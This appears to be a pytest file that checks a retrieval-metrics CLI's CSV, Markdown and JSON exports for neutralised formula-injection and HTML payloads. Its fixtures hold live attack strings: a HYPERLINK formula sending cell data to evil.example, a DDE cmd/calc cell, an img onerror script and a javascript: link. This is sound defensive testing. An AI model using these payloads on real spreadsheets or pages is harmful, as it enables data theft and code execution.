"""Every export of the command line neutralises the formula and HTML payloads that ids from a user's files carry."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragmetrics.cli import main
from ragmetrics.io.export import is_dangerous, markdown_table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HTML = "<img src=x onerror=alert(1)>"
LINK = "[click](javascript:alert(2))"
QUERIES = [FORMULA, HTML, LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "plain"]


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    qrels = tmp_path / "qrels.tsv"
    run = tmp_path / "run.tsv"
    qrels.write_text("query_id\tdoc_id\trelevance\n" + "".join(f"{q}\td1\t1\n" for q in QUERIES))
    run.write_text("query_id\tdoc_id\tscore\n" + "".join(f"{q}\td1\t2\n{q}\t-d2\t1\n" for q in QUERIES))
    return qrels, run


def _eval(files: tuple[Path, Path], fmt: str, *extra: str) -> str:
    out, err = io.StringIO(), io.StringIO()
    code = main(["eval", "--dataset", str(files[0]), "--run", str(files[1]), "--format", fmt, *extra], out, err)
    assert code == 0, err.getvalue()
    return out.getvalue()


def test_csv_cells_never_start_a_formula(files) -> None:
    rows = list(csv.reader(io.StringIO(_eval(files, "csv", "--per-query", "-m", "mrr", "-m", "ndcg@10"))))
    ids = [row[1] for row in rows[1:]]
    assert {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", HTML, LINK, "plain", "all"} <= set(ids)
    assert not [cell for row in rows for cell in row if is_dangerous(cell)]
    assert [float(row[2]) for row in rows[1:]] == [1.0] * 6  # the numbers are untouched


def test_markdown_renders_ids_as_text(files) -> None:
    text = _eval(files, "markdown", "--per-query", "-m", "mrr")
    assert "<img" not in text and not re.search(r"(?<!\\)\[[^\]]*\]\(", text)
    assert "&lt;img src=x onerror=alert(1)>" in text and "\\[click](javascript:alert(2))" in text
    assert "| run | query_id | mrr |" in text and "|---|---|---:|" in text
    rows = [line for line in text.splitlines() if line.startswith("| run ")][1:]
    assert len(rows) == 6  # one per query and the mean, a `|` in an id never splits a row
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 4 for line in rows)


def test_json_keeps_ids_exactly(files) -> None:
    data = json.loads(_eval(files, "json", "--per-query", "-m", "mrr"))
    assert set(QUERIES) <= set(json.dumps(data, ensure_ascii=False).encode().decode() and _all_strings(data))


def _all_strings(value: object) -> set[str]:
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set().union(*(_all_strings(k) | _all_strings(v) for k, v in value.items())) if value else set()
    if isinstance(value, list):
        return set().union(*(_all_strings(v) for v in value)) if value else set()
    return set()


def test_diagnose_csv_cells_never_start_a_formula(files) -> None:
    out, err = io.StringIO(), io.StringIO()
    code = main(["diagnose", "--dataset", str(files[0]), "--run", str(files[1]), "--format", "csv"], out, err)
    assert code == 0, err.getvalue()
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows and not [cell for row in rows for cell in row if is_dangerous(cell)]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.text(
            st.sampled_from(list("<>&;#*_`[]()!|~\\:/-+.=\"' \n\r\taZ09"))
            | st.characters(blacklist_categories=["Cs", "Cc"]),
            min_size=1,
            max_size=30,
        ),
        min_size=1,
        max_size=5,
    )
)
def test_a_rendered_markdown_cell_is_its_text_and_nothing_else(texts: list[str]) -> None:
    """Rendered by a CommonMark + GFM-tables renderer with raw HTML on (as GitHub and notebooks do), every cell of
    the table is a plain text node holding the cell's text (line breaks as spaces, blanks at either end trimmed). Control
    characters other than blanks are left out: ids refuse them, and CommonMark itself turns NUL into U+FFFD."""
    frame = pd.DataFrame({"text": texts})
    tokens = MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(markdown_table(frame))
    cells = [t for t in tokens if t.type == "inline"][1:]  # the header's cell first
    assert len(cells) == len(texts)
    for cell, text in zip(cells, texts):
        children = cell.children or []
        assert all(child.type == "text" for child in children), (text, [c.type for c in children])
        rendered = "".join(child.content for child in children)
        assert rendered == re.sub(r"[\r\n]+", " ", text).strip(), text
